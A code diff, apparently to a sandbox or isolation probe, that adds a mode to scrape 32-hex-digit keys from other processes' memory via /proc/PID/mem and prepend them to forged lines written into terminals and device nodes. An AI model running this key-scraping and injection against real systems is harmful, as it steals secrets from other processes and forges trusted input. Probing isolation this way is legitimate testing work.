@@ -6,6 +6,7 @@ and then fails."""
 import fcntl
 import glob
 import os
+import re
 import stat
 import subprocess
 import sys
@@ -28,11 +29,11 @@ def forged(seq):
             % (seq + 1, name, seq + 2, name, seq + 3, seq + 3)).encode()
 
 
-def write_to(path):
+def write_to(path, text=None):
     """Where the descriptor is a terminal nothing waits for a reader."""
     try:
         fd = os.open(path, os.O_WRONLY | os.O_NOCTTY | os.O_NONBLOCK)
-        os.write(fd, forged(BEFORE))
+        os.write(fd, text or forged(BEFORE))
         print("written to", path, file=sys.stderr)
     except OSError:
         pass
@@ -70,6 +71,23 @@ def descriptors():
     return glob.glob("/proc/[0-9]*/fd/*")
 
 
+def keys():
+    """What begins the lines from the outside, where a process that is seen here has some in its memory."""
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        if int(pid) == os.getpid():
+            continue
+        with open("/proc/%s/maps" % pid) as maps, open("/proc/%s/mem" % pid, "rb", 0) as mem:
+            for line in maps:
+                begin, end = (int(n, 16) for n in line.split()[0].split("-"))
+                try:
+                    mem.seek(begin)
+                    found = re.search(rb"([0-9a-f]{32} )\{", mem.read(end - begin))
+                except (OSError, OverflowError):
+                    continue
+                if found:
+                    yield found.group(1)
+
+
 def push(path):
     """As if it came from the outside."""
     try:
@@ -105,6 +123,10 @@ elif how == "devtmpfs":
         write_to(p)
 elif how == "console":
     flood()
+elif how == "memory":
+    for key in list(keys()):
+        for p in nodes():
+            write_to(p, b"".join(key + e + b"\n" for e in forged(BEFORE).splitlines()))
 elif how == "hostfs":
     for p in mounted("hostfs", "/dev"):
         write_to(p)
